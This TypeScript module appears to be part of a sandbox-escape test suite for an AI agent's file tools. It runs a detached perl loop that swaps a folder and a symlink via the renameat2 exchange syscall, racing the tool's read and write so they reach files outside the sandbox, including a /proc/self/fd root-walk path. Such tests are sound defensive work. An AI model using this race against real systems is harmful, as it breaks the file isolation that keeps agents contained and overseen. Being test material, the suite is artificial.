// Swapping a folder for a link while whoever works on files is between looking and opening.
import { existsSync } from "node:fs";
import type { Attempt } from "./attempt.ts";
import type { EscapeWorld } from "./world.ts";

const EXCHANGE_CALL = process.arch === "arm64" ? 276 : 316;
const TRIES = 120;

/** From what the runner holds open of the machine up to its root, and from there to what a command cannot see. */
function wayOut(world: EscapeWorld): string {
  const isInPod = world.answererPid === 1;
  return `${isInPod ? `/proc/self/fd/4${"/..".repeat(40)}` : ""}${world.outside("")}`;
}

async function startSwapping(world: EscapeWorld): Promise<void> {
  const loop = `$f = "folder"; $l = "link"; while (1) { syscall(${EXCHANGE_CALL}, -100, $f, -100, $l, 2); select(undef, undef, undef, 0.0002) }`;
  await world.run(
    `mkdir folder; echo inner > folder/secret; ln -s '${wayOut(world)}' link; setsid -f perl -e '${loop}' > /dev/null 2>&1; sleep 0.2`,
  );
}

/** Attempts by races. */
export const swaps: readonly Attempt[] = [
  {
    name: "swaps folders so that a file of the machine is read",
    async run(world) {
      await startSwapping(world);
      for (let tries = 0; tries < TRIES; tries++) {
        const { output } = await world.bench.perform("read", { file_path: "folder/secret" });
        if (output.includes(world.secret)) return true;
      }
      return false;
    },
  },
  {
    name: "swaps folders so that a file is written on the machine",
    async run(world) {
      await startSwapping(world);
      for (let tries = 0; tries < TRIES; tries++) {
        await world.bench.perform("write", { file_path: "folder/owned", content: `${tries}\n` });
        if (existsSync(world.outside("owned"))) return true;
      }
      return false;
    },
  },
];
